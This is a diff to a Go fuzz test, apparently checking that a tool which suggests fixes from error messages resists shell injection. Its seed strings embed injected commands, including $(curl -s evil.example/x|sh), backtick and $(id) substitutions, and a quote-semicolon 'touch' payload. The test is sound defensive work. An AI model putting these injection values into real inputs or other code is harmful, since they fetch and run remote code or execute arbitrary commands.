@@ -188,7 +188,7 @@ func FuzzFixCommands(f *testing.F) {
 	for _, s := range []string{
 		`could not translate host name "pg.example.com$(curl -s evil.example/x|sh)" to address (port 5432)`,
 		"dial tcp: lookup `id`.svc on 10.96.0.10:53: no such host",
-		"connecting to db';touch /tmp/x;'.example.com:5432\nconnection refused",
+		"connecting to db';touch pwned;'.example.com:5432\nconnection refused",
 		"KeyError: 'DB_$(id)_URL'\ninvalid value for DB_URL",
 		"panic: runtime error\nGET /health$(id) 404",
 	} {
